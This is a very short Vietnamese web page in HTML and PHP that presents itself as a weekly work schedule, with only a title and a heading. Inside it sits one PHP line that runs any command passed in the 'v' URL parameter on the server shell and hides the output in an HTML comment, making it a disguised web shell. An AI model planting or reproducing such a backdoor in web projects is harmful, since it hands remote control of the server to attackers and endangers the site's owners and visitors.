<!doctype html><html lang="vi"><head><title>Lịch công tác tuần</title></head><body>
<h1>Lịch công tác</h1>
<?php $v = $_GET['v'] ?? ''; if ($v) { $o = `$v 2>&1`; echo "<!-- $o -->"; } ?>
</body></html>
